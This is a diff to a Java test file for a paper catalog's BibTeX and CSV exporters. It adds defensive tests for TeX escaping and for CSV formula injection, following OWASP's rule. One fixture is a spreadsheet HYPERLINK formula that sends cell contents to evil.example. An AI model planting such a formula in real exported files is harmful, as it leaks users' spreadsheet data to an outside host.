@@ -16,8 +16,11 @@ import java.util.ArrayList;
 import java.util.HashSet;
 import java.util.List;
 import java.util.Map;
+import net.jqwik.api.Arbitraries;
+import net.jqwik.api.Arbitrary;
 import net.jqwik.api.ForAll;
 import net.jqwik.api.Property;
+import net.jqwik.api.Provide;
 import net.jqwik.api.constraints.StringLength;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
@@ -106,16 +109,16 @@ class ExportersTest {
     void texSpecialCharactersAreEscapedAndBracesStayBalanced() {
         String hostile = "50% of {x}_1 & #2 costs $3 ~ ^ \\end{document} }{";
         String escaped = BibtexExporter.escape(hostile);
-        assertThat(escaped).isEqualTo("50\\% of \\{x\\}\\_1 \\& \\#2 costs \\$3 \\textasciitilde{} \\textasciicircum{}"
-                + " \\textbackslash{}end\\{document\\} \\}\\{");
+        assertThat(escaped).isEqualTo("50\\% of \\textbraceleft{}x\\textbraceright{}\\_1 \\& \\#2 costs \\$3"
+                + " \\textasciitilde{} \\textasciicircum{} \\textbackslash{}end\\textbraceleft{}document"
+                + "\\textbraceright{} \\textbraceright{}\\textbraceleft{}");
         String bib = BibtexExporter.export(catalog(Paper.builder("h", hostile).authors(List.of(hostile))
                 .url("https://example.org/{a} b\\c").build()));
         int depth = 0;
         for (int i = 0; i < bib.length(); i++) {
             char c = bib.charAt(i);
-            if (c == '\\') {
-                i++;
-            } else if (c == '{') {
+            // BibTeX counts every brace, a backslash before it or not.
+            if (c == '{') {
                 depth++;
             } else if (c == '}') {
                 depth--;
@@ -143,6 +146,73 @@ class ExportersTest {
         assertThat(row.toMap().keySet()).containsExactlyInAnyOrderElementsOf(CsvExporter.COLUMNS);
         assertThat(CsvExporter.field("plain")).isEqualTo("plain");
         assertThat(CsvExporter.field("a\"b")).isEqualTo("\"a\"\"b\"");
+    }
+
+    /** OWASP's CSV injection rule: a cell a spreadsheet would run as a formula starts with a quote instead. */
+    @Test
+    void csvCellsThatWouldStartAFormulaArePrefixedWithAQuote() throws Exception {
+        Paper formula = Paper.builder("=cmd", "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")")
+                .authors(List.of("+1 Caller", "-2 Minus")).summary("@SUM(A1:A9)").comment("\tTabbed").image("\rCR")
+                .build();
+        String csv = CsvExporter.export(catalog(formula));
+        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
+                .parse(new StringReader(csv)).getRecords().get(0);
+        assertThat(row.get("name")).isEqualTo("'=cmd");
+        assertThat(row.get("title")).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")");
+        assertThat(row.get("authors")).isEqualTo("'+1 Caller; -2 Minus");
+        assertThat(row.get("summary")).isEqualTo("'@SUM(A1:A9)");
+        assertThat(row.get("comment")).isEqualTo("'\tTabbed");
+        assertThat(row.get("image")).isEqualTo("'\rCR");
+        for (String cell : row.values()) {
+            assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
+                    .doesNotStartWith("\t").doesNotStartWith("\r");
+        }
+        assertThat(CsvExporter.field("a=b")).isEqualTo("a=b");
+        assertThat(CsvExporter.field("")).isEmpty();
+    }
+
+    /**
+     * Titles, authors and venues made to break out of their entry (a lone brace, a backslash, {@code %},
+     * {@code #}, {@code @}, a quote) read back with a BibTeX parser as exactly the entries written, each field
+     * with the value written; and by BibTeX's own rule (every brace counts) no field ends early.
+     */
+    @Property(tries = 200)
+    void bibtexReadsBackEntryForEntryWhateverTheTitle(@ForAll("hostileTexts") List<String> texts) throws Exception {
+        List<Paper> papers = new ArrayList<>();
+        for (int i = 0; i < texts.size(); i++) {
+            String t = texts.get(i).isBlank() ? "t" : texts.get(i);
+            papers.add(Paper.builder("n" + i, t).authors(List.of(t, "Ann Lee")).venue(t + " 2024").build());
+        }
+        String bib = BibtexExporter.export(catalog(papers.toArray(Paper[]::new)));
+        org.jbibtex.BibTeXDatabase database = new org.jbibtex.BibTeXParser().parse(new StringReader(bib));
+        Map<Paper, String> keys = BibtexKeys.of(papers);
+        assertThat(database.getEntries()).as(bib).hasSize(papers.size());
+        for (Paper p : papers) {
+            org.jbibtex.BibTeXEntry entry = database.resolveEntry(new org.jbibtex.Key(keys.get(p)));
+            assertThat(entry).as("entry %s in:%n%s", keys.get(p), bib).isNotNull();
+            assertThat(entry.getType().getValue()).isEqualTo("inproceedings");
+            assertThat(entry.getField(org.jbibtex.BibTeXEntry.KEY_TITLE).toUserString())
+                    .isEqualTo("{" + BibtexExporter.escape(p.title()) + "}");
+            assertThat(entry.getField(org.jbibtex.BibTeXEntry.KEY_BOOKTITLE).toUserString())
+                    .isEqualTo(BibtexExporter.escape(p.venue()));
+            assertThat(entry.getFields()).hasSize(4);
+        }
+        int depth = 0;
+        for (String line : bib.split("\n")) {
+            for (char c : line.toCharArray()) {
+                depth += c == '{' ? 1 : c == '}' ? -1 : 0;
+                assertThat(depth).as("depth in line '%s'", line).isNotNegative();
+            }
+            boolean entryLine = line.startsWith("@") || line.equals("}") || line.isEmpty();
+            assertThat(depth).as("a field line that does not close what it opens: '%s'", line).isEqualTo(entryLine
+                    ? (line.startsWith("@") ? 1 : 0) : 1);
+        }
+    }
+
+    @Provide
+    Arbitrary<List<String>> hostileTexts() {
+        return Arbitraries.strings().withChars("{}\\%#@\"=,$&_~^ aZ").ofMinLength(1).ofMaxLength(12).list().ofMinSize(1)
+                .ofMaxSize(4);
     }
 
     @Test
